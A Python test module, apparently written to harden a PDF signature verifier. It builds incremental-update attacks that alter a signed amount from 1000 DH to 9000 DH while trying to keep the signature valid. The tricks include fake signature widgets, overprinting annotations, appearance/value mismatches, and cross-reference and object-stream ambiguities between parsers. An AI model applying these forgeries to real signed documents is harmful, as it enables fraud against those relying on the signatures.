"""Updates that abuse the form, the annotations or the cross-reference machinery rather than the page:
each dresses a forbidden change as a permitted one (a new signature field, a comment, a form fill) or
makes readers disagree about which object is current. Found by trying to break the verifier."""

import io
import struct

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name as n
from pyhanko.pdf_utils.generic import pdf_string
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import PageObject, PdfFileWriter

from .. import forge
from . import edits


def _numbers(*values):
    return generic.ArrayObject(map(generic.FloatObject, values))


JAVASCRIPT = generic.DictionaryObject({n("/PO"): generic.DictionaryObject({
    n("/S"): n("/JavaScript"), n("/JS"): pdf_string("app.launchURL('http://example.invalid/')")})})


def empty_signature_field(extra=None, rect=(0, 0, 0, 0)):
    """A new empty signature field (no key needed) whose widget carries ``extra`` entries."""
    def edit(data):
        def change(w):
            page = forge.first_page_ref(w)
            widget = w.add_object(generic.DictionaryObject({
                n("/Type"): n("/Annot"), n("/Subtype"): n("/Widget"), n("/FT"): n("/Sig"),
                n("/T"): pdf_string("Sig9"), n("/F"): generic.NumberObject(4), n("/Rect"): _numbers(*rect),
                n("/P"): page, **(extra or {})}))
            w.register_annotation(page, widget)
            edits._append_field(w, widget)
        return forge.update(data, change)
    return edit


def free_text_as_signature_widget(data):
    """A FreeText annotation ("9000 DH") listed as the widget of a new signature field."""
    def change(w):
        page = forge.first_page_ref(w)
        annot = w.add_object(generic.DictionaryObject({
            n("/Type"): n("/Annot"), n("/Subtype"): n("/FreeText"), n("/FT"): n("/Sig"), n("/T"): pdf_string("Sig9"),
            n("/Rect"): _numbers(300, 300, 550, 340), n("/Contents"): pdf_string("Montant corrige: 9000 DH"),
            n("/DA"): pdf_string("/Helv 12 Tf 0 g"), n("/P"): page}))
        w.register_annotation(page, annot)
        edits._append_field(w, annot)
    return forge.update(data, change)


def hijack_note(data):
    """The sticky note that was there when signed, rewritten (FreeText, 9000 DH) and adopted as the
    widget of a new empty signature field."""
    def change(w):
        note_ref = forge.first_page_ref(w).get_object()["/Annots"].raw_get(0)
        note = note_ref.get_object()
        note[n("/Subtype")] = n("/FreeText")
        note[n("/Contents")] = pdf_string("Montant corrige: 9000 DH")
        note[n("/Rect")] = _numbers(300, 400, 550, 440)
        field = w.add_object(generic.DictionaryObject({n("/FT"): n("/Sig"), n("/T"): pdf_string("Sig9"),
                                                       n("/Kids"): generic.ArrayObject([note_ref])}))
        note[n("/Parent")] = field
        w.mark_update(note_ref)
        edits._append_field(w, field)
    return forge.update(data, change)


def remove_widget_from_page(name):
    """A field's widget taken off the page's /Annots (the field still lists it): the value vanishes."""
    def edit(data):
        def change(w):
            page_ref = forge.first_page_ref(w)
            page = page_ref.get_object()
            annots = page["/Annots"]
            page[n("/Annots")] = generic.ArrayObject(
                annots.raw_get(i) for i in range(len(annots)) if annots[i].get("/T") != name)
            w.mark_update(page_ref)
        return forge.update(data, change)
    return edit


def content_stream_as_field(data):
    """The page's content stream rewritten (9000 DH) and, to pass as a new signature field, given /FT
    and /T and listed in the form."""
    def change(w):
        contents = forge.first_page_ref(w).get_object().raw_get("/Contents")
        ref = contents[0] if isinstance(contents, generic.ArrayObject) else contents
        stream = ref.get_object()
        new = stream.data.replace(b"1000", b"9000")
        for key in ("/Filter", "/DecodeParms"):
            stream.pop(key, None)
        stream._data, stream._encoded_data = new, None
        stream[n("/FT")], stream[n("/T")] = n("/Sig"), pdf_string("Signature9")
        w.mark_update(ref)
        edits._append_field(w, ref)
    return forge.update(data, change)


def need_appearances_shadow() -> bytes:
    """A form whose field stores 9000 DH and draws 1000 DH: what the signer sees is 1000 DH."""
    w = PdfFileWriter()
    page = w.insert_page(PageObject(forge.stream(w, forge.text_ops("Montant:", 760)), forge.A4, forge.HELVETICA))
    ap = w.add_object(generic.StreamObject({
        n("/Type"): n("/XObject"), n("/Subtype"): n("/Form"), n("/BBox"): _numbers(0, 0, 200, 30),
        n("/Resources"): forge.HELVETICA}, stream_data=b"/Tx BMC BT /F1 14 Tf 2 8 Td (1000 DH) Tj ET EMC"))
    widget = w.add_object(generic.DictionaryObject({
        n("/Type"): n("/Annot"), n("/Subtype"): n("/Widget"), n("/FT"): n("/Tx"), n("/T"): pdf_string("amount"),
        n("/V"): pdf_string("9000 DH"), n("/F"): generic.NumberObject(4), n("/DA"): pdf_string("/Helv 14 Tf 0 g"),
        n("/Rect"): _numbers(140, 750, 340, 780), n("/AP"): generic.DictionaryObject({n("/N"): ap}), n("/P"): page}))
    page.get_object()[n("/Annots")] = generic.ArrayObject([widget])
    w.root[n("/AcroForm")] = w.add_object(generic.DictionaryObject({
        n("/Fields"): generic.ArrayObject([widget]), n("/DA"): pdf_string("/Helv 0 Tf 0 g")}))
    return forge.write(w)


def switch_need_appearances(data):
    def change(w):
        ref = w.root.raw_get("/AcroForm")
        ref.get_object()[n("/NeedAppearances")] = generic.BooleanObject(True)
        w.mark_update(ref)
    return forge.update(data, change)


def overprint_digit(data):
    """A note whose appearance whites out the first digit of "1000 DH" and draws a 9 in its place."""
    import pypdfium2 as pdfium

    doc = pdfium.PdfDocument(data)
    try:
        textpage = doc[0].get_textpage()
        text = textpage.get_text_range()
        left, _, right, _ = textpage.get_charbox(text.index("1000"))
    finally:
        doc.close()
    rect = (left - 1.5, 755, right + 1.5, 770)
    width, height = rect[2] - rect[0], rect[3] - rect[1]
    x = left - rect[0]

    def change(w):
        ap = w.add_object(generic.StreamObject({
            n("/Type"): n("/XObject"), n("/Subtype"): n("/Form"), n("/BBox"): _numbers(0, 0, width, height),
            n("/Resources"): forge.HELVETICA},
            stream_data=b"1 g 0 0 %.2f %.2f re f 0 g BT /F1 14 Tf %.2f %.2f Td (9) Tj ET" % (width, height, x, 3)))
        note = w.add_object(generic.DictionaryObject({
            n("/Type"): n("/Annot"), n("/Subtype"): n("/Text"), n("/Rect"): _numbers(*rect),
            n("/Contents"): pdf_string("vu"), n("/F"): generic.NumberObject(4),
            n("/AP"): generic.DictionaryObject({n("/N"): ap})}))
        w.register_annotation(forge.first_page_ref(w), note)
    return forge.update(data, change)


def _tail(reader):
    return (int(reader.trailer["/Size"]), reader.trailer.raw_get("/Root").idnum,
            reader.xrefs.get_startxref_for_revision(reader.xrefs.total_revisions - 1))


def generation_bump(data):
    """The page's content stream defined again as generation 1 (the page still says 0): pyHanko reads
    the signed object, PDFium, which ignores generations, the new one."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    ref = reader.root["/Pages"]["/Kids"][0].get_object().raw_get("/Contents")
    size, root, prev = _tail(reader)
    content = forge.text_ops("Montant: 9000 DH")
    out = bytearray(data)
    at = len(out)
    out += b"%d 1 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (ref.idnum, len(content), content)
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00001 n \n" % (ref.idnum, at)
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, prev, xref)
    return bytes(out)


def object_stream_twice(data):
    """An object stream holding the page twice, the signed one first and one with new contents second;
    the cross-reference points at the second: pyHanko reads the first, PDFium the second."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    size, root, prev = _tail(reader)
    buffer = io.BytesIO()
    page.write_to_stream(buffer)
    signed_page = buffer.getvalue()
    content_number = size
    new_page = signed_page.replace(b"/Contents %d 0 R" % page.raw_get("/Contents").idnum,
                                   b"/Contents %d 0 R" % content_number)
    content = forge.text_ops("Montant: 9000 DH")
    out = bytearray(data)
    content_offset = len(out)
    out += b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (content_number, len(content), content)
    members = [signed_page, new_page]
    offsets = [0, len(signed_page) + 1]
    header = b"%d %d %d %d " % (page_ref.idnum, offsets[0], page_ref.idnum, offsets[1])
    payload = header + b"\n".join(members) + b"\n"
    stream_number, stream_offset = content_number + 1, len(out)
    out += (b"%d 0 obj\n<< /Type /ObjStm /N 2 /First %d /Length %d >>\nstream\n" % (stream_number, len(header),
                                                                                   len(payload))
            + payload + b"\nendstream\nendobj\n")
    xref_number, xref_offset = stream_number + 1, len(out)
    rows = sorted([(content_number, struct.pack(">BIH", 1, content_offset, 0)),
                   (stream_number, struct.pack(">BIH", 1, stream_offset, 0)),
                   (page_ref.idnum, struct.pack(">BIH", 2, stream_number, 1)),
                   (xref_number, struct.pack(">BIH", 1, xref_offset, 0))])
    index = b" ".join(b"%d 1" % number for number, _ in rows)
    entries = b"".join(entry for _, entry in rows)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /Root %d 0 R /Prev %d /W [1 4 2] /Index [%s] /Length %d >>\n"
            b"stream\n" % (xref_number, xref_number + 1, root, prev, index, len(entries))
            + entries + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset)
    return bytes(out)


def sign_placeholder_moved_over_text(data, pki):
    """The empty DRH field moved over the signed text in the update where B signs it."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers
    from pyhanko.sign.signers.pdf_signer import PdfSignatureMetadata

    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    for ref in writer.root["/AcroForm"]["/Fields"]:
        field = ref.get_object()
        if field.get("/T") == "DRH":
            field[n("/Rect")] = _numbers(50, 720, 400, 790)
            writer.mark_update(ref)
    meta = PdfSignatureMetadata(field_name="DRH", md_algorithm="sha256")
    return signers.PdfSigner(meta, signer=pki.signer("CD789012")).sign_pdf(writer).getvalue()
